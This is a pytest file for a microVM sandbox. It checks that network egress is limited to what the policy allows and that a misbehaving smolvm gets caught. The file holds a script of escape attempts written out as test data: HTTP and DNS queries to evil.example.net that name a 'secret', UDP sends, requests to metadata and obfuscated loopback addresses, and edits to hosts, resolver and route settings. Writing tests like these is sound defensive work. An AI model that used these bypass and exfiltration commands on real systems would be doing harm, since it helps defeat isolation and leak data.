"""What gets out of a microVM: what its policy names, and nothing else. In a world of the tests' own."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
from tests.support import named_world as world
from tests.support.bottle import Bottle, Ended, end
from tests.support.engines import CHECKOUT, Docker
from tests.support.escapes import client_context
from tests.support.named_world import ALLOWED, EMULATOR, LAN, METADATA, REFUSED, RESOLVER, WILD
from tests.support.world import furnish

from bot_bottle.network.probes import BUSYBOX

BOOT = 500
pytestmark = pytest.mark.timeout(900)

BB = " ".join(BUSYBOX)
# a question over TCP: its length, its head, "secret.tcp" and its type and class
QUESTION = r"\0\034bo\1\0\0\1\0\0\0\0\0\0\6secret\3tcp\0\0\1\0\1"
# the kit's programs under their names: the shell does not find them, since the kit has no links
TOOLS = f"""
for each in nc ping ip wget head wc; do eval "$each() {{ {BB} $each \\"\\$@\\"; }}"; done
get() {{ printf 'GET / HTTP/1.0\\r\\nHost: evil.example.net\\r\\n\\r\\n' | nc -w 3 "$@"; }}
ask() {{ {BB} timeout 5 {BB} nslookup "$@"; }}
fetched() {{ [ "$(wget -q -T 20 -O - "http://$1/")" != ok ] || echo "$1 ok"; }}
"""
# Tried in this order, by root. What comes of it is not looked at here: the world's log says what got out.
ESCAPES = f"""
get evil.example.net 80
get {REFUSED} 80
get {REFUSED} 443
get sub.api.example.org 80
get wild.example.org 80
get ::ffff:{REFUSED} 80
get 64:ff9b::{REFUSED} 80
get {METADATA} 80
get {LAN} 80
get meta.wild.example.org 80
get 127.0.0.1 80
get loop.wild.example.org 80
get 0.0.0.0 80
get 2130706433 80
get 0x7f.1 80
get {EMULATOR} 80
get 198.18.1.2 80
get 10.0.2.2 80
get emulator.wild.example.org 80
get 100.96.0.1 80
get 100.96.0.1 443
get lan.wild.example.org 80
get -s 127.0.0.1 {REFUSED} 80
ask secret.evil.example.net
ask secret.evil.example.net {RESOLVER}
ask -type=txt secret.evil.example.net {RESOLVER}
ask secret.evil.example.net {REFUSED}
printf '{QUESTION}' | nc -w 3 {RESOLVER} 53
for at in "{REFUSED} 443" "{RESOLVER} 443" "255.255.255.255 443" "224.0.0.251 5353"; do
  echo secret | {BB} timeout 2 {BB} nc -u $at
done
ping -c 1 -W 2 -w 3 {REFUSED}
echo "{REFUSED} api.example.org" >> /etc/hosts; get api.example.org 80
echo "nameserver {REFUSED}" > /etc/resolv.conf; get evil.example.net 80; ask secret.evil.example.net
ip addr add 10.77.0.9/24 dev eth0; get -s 10.77.0.9 {LAN} 80
ip route add {REFUSED}/32 dev eth0; get {REFUSED} 80
ip route add {LAN}/32 dev lo; get {LAN} 80
"""
EXPECTED_OUT = "escapes tried"
# Sizes in bytes are put in for @. The frame is a WebSocket's: a text, "hello", masked with nothing.
WORKS = r"""
cd /tmp
curl -sS http://api.example.org/plain
curl -sS https://api.example.org/secure
curl -sS https://API.example.org./secure
git -c http.sslCAInfo=/ca.pem clone -q https://api.example.org/repo.git repo && cat repo/file
curl -sS http://api.example.org/size/@ | wc -c
head -c @ /dev/zero | curl -sS -T - http://api.example.org/sink; echo
{ printf 'GET /ws HTTP/1.1\r\nHost: api.example.org\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
  printf 'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'
  sleep 2; printf '\201\205\0\0\0\0hello'; sleep 4; } | nc api.example.org 80 | grep -ao 'echo hello'
"""

Run = Callable[..., Ended]


@pytest.fixture
def log(tmp_path: Path) -> Path:
    return tmp_path / "world"


@pytest.fixture(scope="module")
def archive(docker: Docker, image: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("archive") / "image.tar"
    docker.docker("save", "--output", str(path), image)
    return path


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What is served at the allowed address."""
    folder = tmp_path_factory.mktemp("served")
    furnish(folder)
    return folder


@pytest.fixture(scope="module")
def client(docker: Docker, served: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive of an image with curl and git, which trust the allowed address."""
    folder = tmp_path_factory.mktemp("client")
    built = docker.build(client_context(folder, served / "cert.pem"))
    docker.docker("save", "--output", str(folder / "client.tar"), built)
    return folder / "client.tar"


@pytest.fixture
def run(archive: Path, served: Path, shared_cache: Path, tmp_path: Path, log: Path) -> Run:
    """Run a command in a bottle in a world of its own; `change` is what its smolvm ignores."""
    bottle = Bottle(shared_cache, {"BOT_BOTTLE_STATE_DIR": str(tmp_path / "state")})

    def run(script: str, *options: str, change: dict[str, Sequence[str]] | None = None) -> Ended:
        program = [sys.executable, "-m", "tests.support.dropping", json.dumps(change or {})]
        own = ("run", "-m", "512m", "-u", "0", "--name", "walled", "--archive", str(archive), *options)
        argv = [*world.prefix(log, served), *program, *own, "--", *BUSYBOX, "sh", "-c", TOOLS + script]
        child = subprocess.Popen(
            argv,
            env=bottle.env(),
            cwd=CHECKOUT,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        ended = end(child, BOOT)
        assert bottle.processes() == []
        return ended

    return run


@pytest.fixture
def receipt(tmp_path: Path) -> Callable[[], dict[str, Any]]:
    def read() -> dict[str, Any]:
        [path] = (tmp_path / "state" / "receipts").glob("*.json")
        found: dict[str, Any] = json.loads(path.read_text())
        return found

    return read


def outcomes(receipt: dict[str, Any]) -> dict[str, str]:
    return {name: found["outcome"] for name, found in receipt["proof"].items()}


def tcp(log: Path) -> set[tuple[str, int]]:
    return {(address, port) for kind, address, port, _ in by_kind(log, "tcp") if kind == "tcp"}


def by_kind(log: Path, kind: str) -> list[list[Any]]:
    return [each for each in world.seen(log) if each[0] == kind]


def names(log: Path) -> set[str]:
    return {name for _, name in by_kind(log, "name")}


def test_with_egress_off_nothing_gets_out(run: Run, log: Path, receipt: Callable[[], dict[str, Any]]) -> None:
    ended = run(f"{{ {ESCAPES} }} >/dev/null 2>&1; wget -q -T 5 -O - http://{ALLOWED}/; echo {EXPECTED_OUT}")
    assert (ended.code, ended.out) == (0, f"{EXPECTED_OUT}\n"), ended
    assert world.seen(log) == []
    found = outcomes(receipt())
    assert len(found) == 11
    assert set(found.values()) <= {"unreachable", "refused"}


@pytest.mark.slow
def test_with_a_published_port_nothing_gets_out(
    run: Run, log: Path, receipt: Callable[[], dict[str, Any]]
) -> None:
    script = f"{{ {ESCAPES} }} >/dev/null 2>&1; wget -q -T 5 -O - http://{ALLOWED}/; echo {EXPECTED_OUT}"
    ended = run(script, "-p", "3000")
    assert (ended.code, ended.out) == (0, f"{EXPECTED_OUT}\n"), ended
    assert world.seen(log) == []
    found = outcomes(receipt())
    assert len(found) == 12
    assert (found["ipv4"], found["resolver"]) == ("refused", "refused")


def test_a_published_port_and_an_allowed_host_go_together(
    run: Run, log: Path, receipt: Callable[[], dict[str, Any]]
) -> None:
    host = "api.example.org"
    script = f"""
nc -ll -p 3000 -e cat &
wget -q -T 60 -O - http://{host}/call/8080
{{ {ESCAPES} }} >/dev/null 2>&1; kill $!; echo {EXPECTED_OUT}
"""
    ended = run(script, "-p", "8080:3000", "--allow", host)
    assert (ended.code, ended.out.splitlines()) == (0, ["hello", EXPECTED_OUT]), ended
    assert tcp(log) == {(ALLOWED, 80)}
    assert by_kind(log, "udp") == []
    assert names(log) == {host}
    found = outcomes(receipt())
    assert (found["allowed-host"], found["ipv4"], found["resolver"]) == ("open", "refused", "refused")


# what is emulated moves some 4 MB a second in and 2 out
@pytest.mark.parametrize("size", [20_000_000, pytest.param(200_000_000, marks=pytest.mark.slow)])
def test_with_one_host_allowed_all_of_it_works_and_nothing_else_does(
    run: Run, client: Path, log: Path, receipt: Callable[[], dict[str, Any]], tmp_path: Path, size: int
) -> None:
    host = "api.example.org"
    works = WORKS.replace("@", str(size))
    options = ("-m", "1g", "--archive", str(client), "--allow", host)
    ended = run(f"{works}\n{{ {ESCAPES} }} >/dev/null 2>&1; echo {EXPECTED_OUT}", *options)
    plain, secure = (f"reached {ALLOWED}:{port}" for port in (80, 443))
    told = [plain, secure, secure, "from far away", str(size), str(size), "echo hello", EXPECTED_OUT]
    assert (ended.code, ended.out.splitlines()) == (0, told), ended
    assert tcp(log) == {(ALLOWED, 80), (ALLOWED, 443)}
    assert by_kind(log, "udp") == []
    assert names(log) == {host}
    found = outcomes(receipt())
    assert (found["control"], found["allowed-host"], found["resolver"]) == ("open", "open", "refused")
    [path] = (tmp_path / "state" / "receipts").glob("*.egress")
    refused = [json.loads(line) for line in path.read_text().splitlines()]
    assert {"evil.example.net", "secret.evil.example.net", REFUSED, METADATA, LAN} <= {
        each["host"] for each in refused
    }
    assert {each["port"] for each in refused if each["host"] == REFUSED} >= {80, 443}


def test_a_pattern_and_an_address_open_what_they_name(run: Run, log: Path) -> None:
    script = f"""
for name in a.wild.example.org b.a.wild.example.org {LAN}; do fetched $name; done
{{ {ESCAPES} }} >/dev/null 2>&1; echo {EXPECTED_OUT}
"""
    # that of the emulator too: smolvm lets it through then, and the emulated host does not
    ended = run(script, "--allow", "*.wild.example.org", "--allow", LAN, "--allow", EMULATOR)
    told = [f"{name} ok" for name in ("a.wild.example.org", "b.a.wild.example.org", LAN)]
    assert (ended.code, ended.out.splitlines()) == (0, [*told, EXPECTED_OUT]), ended
    assert tcp(log) <= {(WILD, 80), (LAN, 80)}
    assert by_kind(log, "udp") == []
    assert {name for name in names(log) if not name.endswith(".wild.example.org")} == set()


OPTIONS_OF_LISTS = ("--allow-host-pattern", "--allow-cidr")


@pytest.mark.parametrize(
    ("options", "change", "bad"),
    [
        pytest.param((), {"add": ("--net",)}, "routes", id="a-network-nobody-asked-for"),
        pytest.param(("--allow", ALLOWED), {"drop": ("--deny-cidr",)}, "denied", id="no-denials"),
        pytest.param(
            ("--allow", ALLOWED),
            {"drop": OPTIONS_OF_LISTS},
            "ipv4",
            id="no-list",
            marks=pytest.mark.slow,
        ),
        pytest.param(
            ("--allow", ALLOWED),
            {"drop": ("--allow-host-pattern",)},
            "resolver",
            id="no-filter-of-names",
            marks=pytest.mark.slow,
        ),
        pytest.param(
            ("-p", "3000"),
            {"add": ("--net",)},
            "ipv4",
            id="a-port-and-a-network-nobody-asked-for",
            marks=pytest.mark.slow,
        ),
        pytest.param(
            (),
            {"add": ("--net", "--net-backend", "virtio-net")},
            "ipv4",
            id="another-network",
            marks=pytest.mark.slow,
        ),
        pytest.param(
            ("--allow", "api.example.org"),
            {"drop": (*OPTIONS_OF_LISTS, "--deny-cidr")},
            "control",
            id="no-network",
            marks=pytest.mark.slow,
        ),
    ],
)
def test_a_smolvm_that_ignores_an_option_is_caught(
    run: Run,
    receipt: Callable[[], dict[str, Any]],
    options: tuple[str, ...],
    change: dict[str, Sequence[str]],
    bad: str,
) -> None:
    ended = run("echo started", *options, change=change)
    ended.failed(119, "network isolation is not in force", bad)
    told = receipt()
    assert not told["proof"][bad]["ok"]
    assert (told["exit_status"], told["place"]) == (119, "nested")
